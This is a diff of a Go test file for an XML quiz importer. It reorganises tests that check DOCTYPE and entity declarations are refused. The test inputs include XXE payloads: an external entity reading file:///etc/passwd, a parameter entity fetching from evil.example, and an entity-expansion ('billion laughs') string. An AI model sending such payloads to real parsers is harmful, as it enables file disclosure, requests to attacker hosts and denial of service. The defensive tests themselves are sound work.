@@ -377,9 +377,6 @@ func TestF62_XMLThatHarmsIsRefusedWithItsLine(t *testing.T) {
 		want error
 		line any
 	}{
-		"N118 doctype":          {"<?xml version=\"1.0\"?>\n<!DOCTYPE quiz>\n<quiz>" + fine + "</quiz>", fault.New(fault.Invalid, exchange.SubFileEntity), nil},
-		"N118 external entity":  {"<!DOCTYPE quiz [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><quiz>&x;</quiz>", fault.New(fault.Invalid, exchange.SubFileEntity), nil},
-		"N118 billion laughs":   {"<!DOCTYPE quiz [<!ENTITY a \"aaaa\"><!ENTITY b \"&a;&a;\">]><quiz>&b;</quiz>", fault.New(fault.Invalid, exchange.SubFileEntity), nil},
 		"N118 undeclared":       {"<quiz>\n<question>&evil;</question></quiz>", fault.New(fault.Invalid, exchange.SubFileXML), 2},
 		"unclosed":              {"<quiz>\n" + fine + "\n<question type=\"essay\">", fault.New(fault.Invalid, exchange.SubFileXML), 3},
 		"crossed":               {"<quiz>\n\n<question></quiz></question>", fault.New(fault.Invalid, exchange.SubFileXML), 3},
@@ -403,6 +400,18 @@ func TestF62_XMLThatHarmsIsRefusedWithItsLine(t *testing.T) {
 		if c.line != nil {
 			require.Equal(t, c.line, f.Params["line"], name)
 		}
+	}
+}
+
+func TestN118_DoctypeAndEntitiesAreRefused(t *testing.T) {
+	t.Parallel()
+	for _, data := range []string{
+		"<?xml version=\"1.0\"?>\n<!DOCTYPE quiz>\n" + sample(1)[39:], "<!DOCTYPE quiz [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><quiz>&x;</quiz>",
+		"<!DOCTYPE quiz [<!ENTITY a \"aaaa\"><!ENTITY b \"&a;&a;\">]><quiz>&b;</quiz>", "<!DOCTYPE quiz [<!ENTITY % p SYSTEM \"http://evil.example/x\">%p;]><quiz/>",
+		"<quiz><!ENTITY x \"y\"></quiz>",
+	} {
+		_, err := try(data)
+		require.ErrorIs(t, err, fault.New(fault.Invalid, exchange.SubFileEntity), data)
 	}
 }
 
